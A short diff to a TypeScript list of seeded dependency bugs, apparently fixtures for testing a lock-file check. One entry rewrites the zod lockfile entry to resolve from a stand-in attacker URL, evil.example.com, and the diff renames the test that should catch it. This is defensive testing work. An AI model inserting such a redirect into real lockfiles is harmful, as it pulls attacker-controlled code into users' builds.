@@ -29,7 +29,7 @@ export const dependencies: readonly SeededBug[] = [
     replace: '    "node_modules/zod": {\n',
     by: '    "node_modules/zod": {\n      "resolved": "https://evil.example.com/zod.tgz",\n',
     testFile: lockFileTest,
-    test: 'S26: the lock file > has a version of the registry for each, and no place elsewhere',
+    test: 'S26: the lock file > has a registry version for each, and no other source',
   },
   {
     name: 'ask for a dependency from git',
